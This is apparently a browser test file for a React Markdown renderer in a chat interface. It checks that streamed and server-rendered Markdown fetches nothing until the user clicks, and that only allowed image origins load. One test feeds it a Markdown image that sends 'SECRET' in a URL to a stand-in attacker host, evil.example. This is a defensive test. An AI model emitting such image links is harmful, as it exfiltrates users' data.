import { act } from '@testing-library/react'
import type { ReactNode } from 'react'
import { flushSync } from 'react-dom'
import { createRoot, hydrateRoot } from 'react-dom/client'
import { renderToString } from 'react-dom/server'
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
import { cdp } from 'vitest/browser'
import { showMarkdown } from './fixtures/showMarkdown.tsx'
import { isShort, sourceOf, vectors, withMath } from './fixtures/vectors.ts'
import { Markdown } from './Markdown.tsx'
import { MarkdownBoundary } from './MarkdownBoundary.tsx'
import type { MarkdownSettings } from './MarkdownContext.ts'

interface RequestEvent {
  readonly request: { readonly url: string }
}

interface Session {
  send(method: 'Network.enable' | 'Network.disable'): Promise<unknown>
  on(event: 'Network.requestWillBeSent', listener: (event: RequestEvent) => void): void
  off(event: 'Network.requestWillBeSent', listener: (event: RequestEvent) => void): void
}

/** Every address that this page has asked for, as the browser's network layer was told. */
const asked: string[] = []

function note({ request }: RequestEvent): void {
  asked.push(request.url)
}

const deep = import.meta.env['MILLRACE_DEEP'] !== undefined
const session = cdp() as unknown as Session

beforeAll(async () => {
  session.on('Network.requestWillBeSent', note)
  await session.send('Network.enable')
})

afterAll(async () => {
  await session.send('Network.disable')
  session.off('Network.requestWillBeSent', note)
})

afterEach(() => document.body.replaceChildren())

let looks = 0

/** What was asked for since the last time, by now. */
async function askedSince(): Promise<readonly string[]> {
  // What loads when it is laid out is asked for with a frame.
  for (let frame = 0; frame < 2; frame++) await new Promise(requestAnimationFrame)
  // An image of our own, asked for last: all before it were told of before it.
  const last = `/?look=${looks++}`
  const image = document.body.appendChild(document.createElement('img'))
  image.src = last
  await expect.poll(() => asked.some((url) => url.endsWith(last))).toBe(true)
  image.remove()
  return asked.splice(0).filter((url) => !url.endsWith(last))
}

/** Of texts that are long because they say the same over and over, the beginning. */
const texts = vectors.map((vector) => sourceOf(vector).slice(0, 30_000))

/** Steps that a short case comes in, so many characters each; a long one in five pieces. */
const steps = deep ? 100 : 25
const stepLength = 300 / steps

/** All cases as one thread, each as far as it has come. */
function Thread({ step, ...settings }: MarkdownSettings & { readonly step: number }): ReactNode {
  return texts.map((text, index) => {
    const length = isShort(text)
      ? stepLength * step
      : Math.floor((5 * step) / steps) * (text.length / 5)
    return (
      <MarkdownBoundary key={index} text={text} notice="">
        <Markdown text={text.slice(0, length)} streaming={length < text.length} {...settings} />
      </MarkdownBoundary>
    )
  })
}

test('nothing is asked of anybody while all of it streams, nor when a page takes it over from a server (T-48, T-49, T-50)', async () => {
  await askedSince()
  const page = document.body.appendChild(document.createElement('div'))
  const root = createRoot(page)
  for (let step = 1; step <= steps; step++) {
    flushSync(() => root.render(<Thread step={step} />))
  }
  expect(page.querySelectorAll('[data-part="markdown"]')).toHaveLength(texts.length)
  expect(await askedSince()).toEqual([])
  flushSync(() => root.unmount())

  for (const settings of [{}, withMath]) {
    const short = texts.filter(isShort)
    const thread = short.map((text, index) => <Markdown key={index} text={text} {...settings} />)
    page.innerHTML = renderToString(thread)
    const taken = await act(() => hydrateRoot(page, thread))
    expect(await askedSince()).toEqual([])
    act(() => taken.unmount())
  }
}, 120_000)

test('a press on the button in its place is what fetches an image (T-48)', async () => {
  await askedSince()
  const shown = showMarkdown()
  shown.show('![x](https://evil.example/p.png?d=SECRET)', false)
  expect(await askedSince()).toEqual([])
  flushSync(() => shown.page.querySelector('button')?.click())
  shown.page.scrollIntoView()
  await expect.poll(() => asked).toContain('https://evil.example/p.png?d=SECRET')
  shown.close()
})

test('an image of an allowed origin is fetched once, when its address is whole (T-48, T-49)', async () => {
  await askedSince()
  const shown = showMarkdown({ allowedImageOrigins: ['https://cdn.chat.example'] })
  const text = '![chart](https://cdn.chat.example/c.png?d=AAAAAAAA) and more'
  for (let end = 1; end <= text.length; end++) shown.show(text.slice(0, end), true)
  await expect.poll(() => asked.length).toBeGreaterThan(0)
  expect(await askedSince()).toEqual(['https://cdn.chat.example/c.png?d=AAAAAAAA'])
  shown.close()
})

test('a request that is made is seen: this could fail', async () => {
  await askedSince()
  const image = document.body.appendChild(document.createElement('img'))
  image.src = 'https://evil.example/x.png'
  const preload = document.createElement('div')
  preload.innerHTML = '<link rel="preload" as="image" href="https://evil.example/y.png">'
  document.body.append(preload)
  const seen = await askedSince()
  expect(seen.toSorted()).toEqual(['https://evil.example/x.png', 'https://evil.example/y.png'])
})
